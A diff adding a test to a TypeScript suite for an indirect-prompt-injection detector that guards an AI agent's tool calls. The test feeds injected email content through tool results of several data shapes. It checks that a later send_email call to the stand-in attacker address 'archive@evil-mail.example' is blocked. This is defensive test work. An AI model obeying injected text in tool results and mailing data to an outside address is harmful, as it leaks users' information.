@@ -209,6 +209,32 @@ describe('hooks and guardTool', () => {
     expect((await registry.run('pre-tool-call', { sessionId: 'a', call: attack })).vetoed).toBe(false);
   });
 
+  it('observes tool results of every shape as their text: a Map, a Set, bytes, an Error, a bigint field; refuses, typed, a result JSON cannot write out', async () => {
+    const attack = { name: 'send_email', arguments: { to: 'archive@evil-mail.example' } };
+    const shapes: [string, unknown][] = [
+      ['map', new Map([['latest', { body: INJECTED }]])],
+      ['set', new Set([INJECTED])],
+      ['buffer', new TextEncoder().encode(INJECTED)],
+      ['error', new Error(INJECTED)],
+      ['bigint', { id: 12n, body: INJECTED }],
+    ];
+    for (const [shape, result] of shapes) {
+      const registry = new HookRegistry();
+      registerIpiHook(registry, new IpiDetector({ mode: 'block', env: {} }));
+      expect((await registry.run('post-tool-call', { sessionId: 's', toolName: 'read_email', result })).vetoed, shape).toBe(false);
+      expect((await registry.run('pre-tool-call', { sessionId: 's', call: attack })).vetoed, shape).toBe(true);
+    }
+    const circular: Record<string, unknown> = { body: INJECTED };
+    circular.self = circular;
+    const registry = new HookRegistry();
+    registerIpiHook(registry, new IpiDetector({ mode: 'block', env: {} }));
+    const refused = await registry.run('post-tool-call', { sessionId: 's', toolName: 'read_email', result: circular });
+    expect(refused.vetoed).toBe(true);
+    const session = new IpiDetector({ mode: 'block', env: {} }).session('g');
+    await expect(guardTool('read_email', async () => circular, session)({})).rejects.toMatchObject({ code: 'invalid-type' });
+    await expect(guardTool('noop', async () => undefined, session)({})).resolves.toBeUndefined();
+  });
+
   it('guardTool refuses before the tool runs and observes what the tool returns', async () => {
     const d = new IpiDetector({ mode: 'block', env: {} });
     const session = d.session('g');
